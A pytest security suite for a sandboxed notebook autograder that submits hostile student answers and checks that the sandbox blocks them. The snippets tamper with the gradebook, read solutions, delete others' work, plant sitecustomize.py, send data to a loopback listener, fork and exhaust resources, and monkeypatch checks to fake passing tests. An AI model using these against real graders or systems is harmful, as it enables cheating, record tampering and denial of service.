"""Grade a class of hostile notebook-01 submissions with the sandbox on, as an attacker would.

Every attacker hands in the correct solution plus an attack, so what it should
score is what its honest parts earn (full marks, or the sigmoid's 3 points when
the attack breaks its own neuron_output). Beside them an honest student must
keep full marks. After a run of the real grader (`nbutils-grade`, real
nbgrader, sandbox on; once with warm kernels, once with cold ones) the test
checks the attacks' effects from outside: the gradebook, grades.csv, every
course file and other submission byte for byte, the package and the Python
environment, a loopback server's log, the process table and every feedback
page. Each attack also prints what it saw, and the test reads that from the
autograded notebook: each one must have failed.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import html
import json
import os
import socket
import subprocess
import sys
import sysconfig
import threading
from pathlib import Path

import pytest
from harness import ROOT, isolated_env, read
from test_grade_class import FULL, NAME, build_class, solved, with_answer

from nbinstructor import sandbox
from nbinstructor.feedback import hidden_lines

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(sandbox.check() is not None,
                                 reason=f"no sandbox here: {sandbox.check()}")]

COURSE = "import os as _os\n_course = _os.path.abspath('../../..')\n"
# in the argv of the processes the attackers leave behind, with the class's own PORT:
# the warm and the cold class may be graded at once on two workers
MARK = "sleep-nbgrade-attack"


def _try(name: str, body: str) -> str:
    """An attack as a block: it prints 'ATTACK name: ok ...' or 'ATTACK name: failed ...'."""
    indented = "".join("    " + ln + "\n" for ln in body.strip().splitlines())
    return (f"\ntry:\n{indented}    print('ATTACK {name}: ok', _r)\n"
            f"except BaseException as _e:\n"
            f"    print('ATTACK {name}: failed', type(_e).__name__, _e)\n")


WRONG = "\ndef neuron_output(w, b, x):\n    return 0.0\n"

ATTACKS = {
    # student -> (answer cell, source appended to it, expected score)
    "gradebook_writer": ("sigmoid", COURSE + _try("gradebook", """
import sqlite3
_db = sqlite3.connect('file:' + _course + '/gradebook.db?mode=rw', uri=True)
_db.execute("UPDATE grade SET extra_credit = 50")
_db.execute("UPDATE grade SET manual_score = 0")
_db.commit()
_r = 'wrote the gradebook'
"""), FULL),
    "reads_solutions_print": ("sigmoid", COURSE + _try("read", """
_r = open(_course + '/solutions/01_neuron/01_neuron.ipynb').read()
print(_r)
"""), FULL),
    "reads_solutions_raise": ("neuron_output", COURSE + """
def neuron_output(w, b, x):
    try:
        text = open(_course + '/solutions/01_neuron/01_neuron.ipynb').read()
    except OSError as e:
        text = 'ATTACK leak: failed ' + str(e)
    raise RuntimeError(text)
""", 3),
    "echoes_test_cells": ("sigmoid", """
def _echo(info):
    print('ATTACK echo:', repr(info.raw_cell))
get_ipython().events.register('pre_run_cell', _echo)
""", FULL),
    "writes_others": ("sigmoid", COURSE + _try("others", """
import shutil
shutil.rmtree(_course + '/submitted/honest_solved')
_r = 'deleted a classmate'
""") + _try("course", """
for _p in ('/solutions/01_neuron/01_neuron.ipynb', '/notebooks/01_neuron/01_neuron.ipynb'):
    open(_course + _p, 'w').write('{}')
_r = 'rewrote the course'
""") + _try("outside", """
open(_course + '/../planted.txt', 'w').write('x')
_r = 'wrote beside the course'
"""), FULL),
    "environment_writer": ("sigmoid", _try("site", """
import sysconfig
open(sysconfig.get_paths()['purelib'] + '/sitecustomize.py', 'w').write('print(1)')
_r = 'planted sitecustomize'
""") + _try("nbutils", """
import nbutils.checks
open(nbutils.checks.__file__, 'a').write('\\n# planted\\n')
_r = 'edited nbutils'
""") + _try("home", """
import os as _o
_r = sorted(_o.listdir(_o.path.expanduser('~root')))
"""), FULL),
    "network_client": ("sigmoid", _try("network", """
import socket
_s = socket.create_connection(('127.0.0.1', PORT), timeout=3)
_s.sendall(b'stolen')
_r = 'connected'
"""), FULL),
    "leaves_processes": ("sigmoid", _try("detach", f"""
import os as _o
import subprocess, sys, time
_sleeper = [sys.executable, '-c', 'import time; time.sleep(600)', '{MARK}-PORT']
subprocess.Popen(_sleeper, start_new_session=True)
_pid = _o.fork()
if _pid == 0:
    _o.setsid()
    if _o.fork() == 0:
        _o.execv(sys.executable, _sleeper)
    _o._exit(0)
_o.waitpid(_pid, 0)
time.sleep(0.5)
_r = len([p for p in _o.listdir('/proc') if p.isdigit()
          and '{MARK}-PORT' in open(f'/proc/{{p}}/cmdline').read()])
"""), FULL),
    "allocates_3gb": ("sigmoid", """
import numpy as _np
_big = _np.ones(3 * 2**30 // 8)
print('ATTACK memory: ok, allocated', _big.nbytes)
""", FULL),
    "writes_1gb": ("sigmoid", """
with open('big.bin', 'wb') as _f:
    for _ in range(1024):
        _f.write(b'x' * 2**20)
print('ATTACK disk: ok, wrote 1 GiB')
""", FULL),
    "fork_bomb": ("sigmoid", """
import threading, time
threading.stack_size(64 * 1024)  # small stacks: the process limit stops it, not memory
_threads = []
for _ in range(5000):
    _t = threading.Thread(target=time.sleep, args=(30,), daemon=True)
    _t.start()
    _threads.append(_t)
print('ATTACK processes: ok, started', len(_threads))
""", FULL),
    # a wrong neuron_output (its 2 points lost) beside something that would have
    # passed it with the tests run in the kernel: it must keep the sigmoid's 3 only
    "patches_numpy": ("neuron_output", WRONG + """
np.allclose = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.all = np.any = lambda *a, **k: True
""", 3),
    "patches_checks": ("neuron_output", WRONG + """
import nbutils.checks as _c
_c.check_function = _c.check_value = _c.compare = lambda *a, **k: None
""", 3),
    "patches_builtins": ("neuron_output", WRONG + """
import builtins
builtins.abs = lambda x: 0.0
builtins.all = lambda *a, **k: True
""", 3),
    "rebinds_names": ("neuron_output", WRONG + """
import types
checks = types.SimpleNamespace(check_function=lambda *a, **k: None,
                               check_value=lambda *a, **k: None,
                               Case=lambda *a, **k: None, Hint=lambda *a, **k: None)
""", 3),
    "always_equal": ("neuron_output", """
class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__

class _YesArray(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__

def neuron_output(w, b, x):
    return _Yes(0.0)

def _sigmoid_that_lies(z):
    return np.zeros_like(np.asarray(z, dtype=float)).view(_YesArray)
""", 3),
    "delegates": ("neuron_output", """
def neuron_output(w, b, x):
    import numpy as np
    from nbutils import activations
    return activations.sigmoid(np.dot(w, x) + b)
""", 3),
}
HONEST = ("honest_solved", "honest_too")


def _digest_tree(paths) -> dict[str, str]:
    out = {}
    for top in paths:
        top = Path(top)
        files = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file())
        for p in files:
            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _marked_processes(course: Path, port: int | None = None) -> list[str]:
    """Processes an attacker of the class on ``port`` left, or any sandboxed process
    of this course's grading.

    (Other tests may be grading other courses with other sandbox uids meanwhile.)
    """
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            args = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            uid = os.stat(f"/proc/{pid}").st_uid
            mine = str(course) in args or str(course) in os.readlink(f"/proc/{pid}/cwd")
            if (port and f"{MARK}-{port}" in args) or (sandbox.BASE_UID <= uid and mine):
                left.append(f"{pid} uid {uid}: {args}")
    return left


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.sock.close()


# one worker grades each class, once: the tests on it only read what it left
GROUP_BY_PARAM = "attacked"


@pytest.fixture(scope="module", params=["warm", "cold"])
def attacked(tmp_path_factory, request):
    """The class graded once with warm kernels (the default), once with --cold-kernels."""
    listener = Listener()
    course = tmp_path_factory.mktemp("attacks") / "course"
    students = {s: (solved, FULL, "graded") for s in HONEST}
    for student, (cell, source, score) in ATTACKS.items():
        source = "\n" + source.replace("PORT", str(listener.port))
        students[student] = (lambda c=cell, s=source: with_answer(c, suffix=s), score, None)
    build_class(course, students)
    (course / "notebooks").mkdir()
    (course / "notebooks" / NAME).mkdir()
    (course / "notebooks" / NAME / f"{NAME}.ipynb").write_bytes(
        (ROOT / "notebooks" / NAME / f"{NAME}.ipynb").read_bytes())
    site = Path(sysconfig.get_paths()["purelib"])
    watched = [course / "solutions", course / "notebooks", course / "nbgrader_config.py",
               *[course / "submitted" / s for s in HONEST], ROOT / "nbutils"]
    before = _digest_tree(watched)
    env = isolated_env(course / ".env")
    kernels = ["--cold-kernels"] if request.param == "cold" else []
    proc = subprocess.run([sys.executable, "-m", "nbinstructor.grade", "--time-limit", "60",
                           *kernels], cwd=course, env=env, capture_output=True, text=True,
                          timeout=600)
    listener.close()
    yield {"course": course, "proc": proc, "before": before, "after": _digest_tree(watched),
           "listener": listener, "left": _marked_processes(course, listener.port), "site": site}
    for pid in [int(line.split()[0]) for line in _marked_processes(course, listener.port)]:
        with contextlib.suppress(OSError):  # a failed run must not leave them behind
            os.kill(pid, 9)


def _scores(course: Path) -> dict[str, float]:
    rows = csv.DictReader(open(course / "grades.csv"))
    return {r["student_id"]: float(r["score"]) for r in rows}


def _evidence(course: Path, student: str) -> list[str]:
    nb = read(course / "autograded" / student / NAME / f"{NAME}.ipynb")
    lines = []
    for cell in nb.cells:
        # one print can reach the notebook as two stream outputs (split where stdout
        # was flushed): a cell's text is all of its outputs, joined
        text = "".join(out.get("text", "") if out.get("output_type") == "stream" else
                       str(out.get("evalue", "")) + "\n" for out in cell.get("outputs", []))
        lines += [ln for ln in text.splitlines() if "ATTACK" in ln]
    return lines


def test_every_attacker_scores_what_its_honest_parts_earn(attacked):
    proc = attacked["proc"]
    assert proc.returncode == 0, proc.stdout + proc.stderr
    scores = _scores(attacked["course"])
    for student in HONEST:
        assert scores[student] == FULL, (student, proc.stdout)
    for student, (_cell, _source, score) in ATTACKS.items():
        assert scores[student] == score, (student, proc.stdout)


def test_the_gradebook_holds_no_extra_credit_and_no_zeroed_classmate(attacked):
    from nbgrader.api import Gradebook

    course = attacked["course"]
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for sub in gb.assignment_submissions(NAME):
            for nb in sub.notebooks:
                for g in nb.grades:
                    assert not g.extra_credit, (sub.student.id, g.name)
                    assert g.manual_score is None, (sub.student.id, g.name)


def test_course_files_and_other_submissions_are_byte_identical(attacked):
    assert attacked["after"] == attacked["before"]
    assert not (attacked["course"].parent / "planted.txt").exists()
    assert not (attacked["site"] / "sitecustomize.py").exists()


def test_every_attack_saw_itself_fail(attacked):
    course = attacked["course"]
    expect = {"gradebook_writer": ["gradebook"], "reads_solutions_print": ["read"],
              # (its write beside the course lands in the sandbox's private /tmp when
              # the course is under /tmp, as here: checked from outside instead)
              "writes_others": ["others", "course"],
              "environment_writer": ["site", "nbutils"],
              "network_client": ["network"]}
    for student, names in expect.items():
        lines = _evidence(course, student)
        for name in names:
            line = next((ln for ln in lines if ln.startswith(f"ATTACK {name}:")), None)
            assert line is not None and ": failed" in line, (student, name, lines)
    assert any("ATTACK leak: failed" in ln for ln in _evidence(course, "reads_solutions_raise"))
    # the detached and the double-forked process did run (and were ended: see below)
    assert "ATTACK detach: ok 2" in _evidence(course, "leaves_processes")
    # of the instructor's home, only the folders that lead to what is bound read-only
    home = os.path.expanduser("~root")
    allowed = {p[len(home) + 1:].split("/")[0] for p in sandbox.readonly_paths(course)
               if p.startswith(home + "/")}
    seen = next(ln for ln in _evidence(course, "environment_writer") if "ATTACK home:" in ln)
    listed = set() if ": failed" in seen else set(eval(seen.split(": ok ", 1)[1]))
    assert listed <= allowed, (listed, allowed)
    assert set(os.listdir(home)) - allowed, "the test needs a home with more in it"
    for student, word in (("allocates_3gb", "memory"), ("writes_1gb", "disk"),
                          ("fork_bomb", "processes")):
        assert not any(f"ATTACK {word}: ok" in ln for ln in _evidence(course, student))


def test_a_delegating_answer_is_told_why_it_scored_zero(attacked):
    page = (attacked["course"] / "feedback" / "delegates" / NAME / f"{NAME}.html").read_text()
    assert "ReferenceSwitchedOff" in page
    assert "the course's own nbutils.activations.sigmoid is switched off" in html.unescape(page)


def test_an_object_that_equals_everything_is_not_read_as_an_answer(attacked):
    page = (attacked["course"] / "feedback" / "always_equal" / NAME / f"{NAME}.html").read_text()
    assert "which the grader cannot read" in html.unescape(page)


def test_the_patches_are_named_for_review_and_score_nothing(attacked):
    state = json.loads((attacked["course"] / "grading" / "state.json").read_text())
    for student in ("patches_numpy", "patches_checks"):
        r = state[f"{student}/{NAME}"]
        assert r["outcome"] == "graded" and "for review" in r["reason"], r


def test_no_connection_reached_the_loopback_server(attacked):
    assert attacked["listener"].connections == 0


def test_no_process_is_left_running(attacked):
    assert attacked["left"] == []


def test_nothing_large_was_left_in_autograded(attacked):
    folder = attacked["course"] / "autograded" / "writes_1gb"
    sizes = [p.stat().st_size for p in folder.rglob("*") if p.is_file()]
    assert sizes and max(sizes) < 10**6


def test_the_report_names_the_limit_and_the_cell(attacked):
    course = attacked["course"]
    state = json.loads((course / "grading" / "state.json").read_text())
    reasons = {s: state[f"{s}/{NAME}"]["reason"] for s in ATTACKS}
    assert "used more than 2 GiB of memory in cell 'sigmoid'" in reasons["allocates_3gb"]
    assert "in cell 'sigmoid'" in reasons["writes_1gb"]
    assert ("wrote a file larger than 200 MB" in reasons["writes_1gb"]
            or "used more than 200 MB of disk" in reasons["writes_1gb"])
    assert "started more than 256 processes and threads in cell 'sigmoid'" \
        in reasons["fork_bomb"]
    page = (course / "feedback" / "allocates_3gb" / NAME / f"{NAME}.html").read_text()
    assert html.escape("used more than 2 GiB of memory in cell 'sigmoid'") in page


def test_no_feedback_holds_hidden_test_text(attacked):
    course = attacked["course"]
    hidden = hidden_lines(ROOT / "solutions" / NAME / f"{NAME}.ipynb")
    assert hidden
    solution_lines = ["### BEGIN HIDDEN TESTS"]  # (the solved answers quote their own markers)
    for student in [*HONEST, *ATTACKS]:
        page = (course / "feedback" / student / NAME / f"{NAME}.html").read_text()
        for line in hidden + solution_lines:
            assert html.escape(line) not in page and line not in page, (student, line)
    # the hook saw every cell the kernel ran, and no test cell: those ran in the grader
    echoed = "\n".join(_evidence(course, "echoes_test_cells"))
    assert "ATTACK echo:" in echoed and "def neuron_output" in echoed
    for line in hidden + ["checks.check_function(sigmoid"]:
        assert line not in echoed, line


def test_the_cpu_limit_stops_a_loop_that_no_interrupt_can(tmp_path):
    """A loop that swallows KeyboardInterrupt, with a cell timeout longer than the CPU limit."""
    swallow = ("\nwhile True:\n    try:\n        while True:\n            pass\n"
               "    except KeyboardInterrupt:\n        pass\n")
    course = tmp_path / "course"
    build_class(course, {"honest_solved": (solved, FULL, "graded"),
                         "cpu_loop": (lambda: with_answer("neuron_output", suffix=swallow), 3,
                                      "partial")})
    env = isolated_env(course / ".env")
    proc = subprocess.run([sys.executable, "-m", "nbinstructor.grade", "--time-limit", "60",
                           "--cell-timeout", "40", "--cpu-time", "4"], cwd=course, env=env,
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert _scores(course) == {"honest_solved": FULL, "cpu_loop": 3}
    state = json.loads((course / "grading" / "state.json").read_text())
    r = state[f"cpu_loop/{NAME}"]
    assert r["outcome"] == "partial", r
    assert ("answer cell 'neuron_output' was left out: it used more than 4 s of CPU time "
            "(a limit of the grading sandbox)") in r["reason"], r
    assert _marked_processes(course) == []
